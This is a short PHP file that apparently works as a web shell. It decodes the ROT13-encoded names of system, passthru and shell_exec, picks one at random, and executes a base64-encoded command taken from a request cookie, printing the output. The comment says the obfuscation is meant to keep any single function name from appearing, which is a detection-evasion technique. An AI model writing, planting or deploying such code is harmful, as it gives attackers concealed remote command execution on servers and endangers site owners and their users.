<?php
// A table of encoded command-function names; one is picked at random on each request, so no
// single name is ever called by itself.
$t = array_map('str_rot13', array('flfgrz', 'cnffgueh', 'furyy_rkrp'));
$p = $t[mt_rand(0, count($t) - 1)];
echo @$p(base64_decode($_COOKIE['t'] ?? ''));
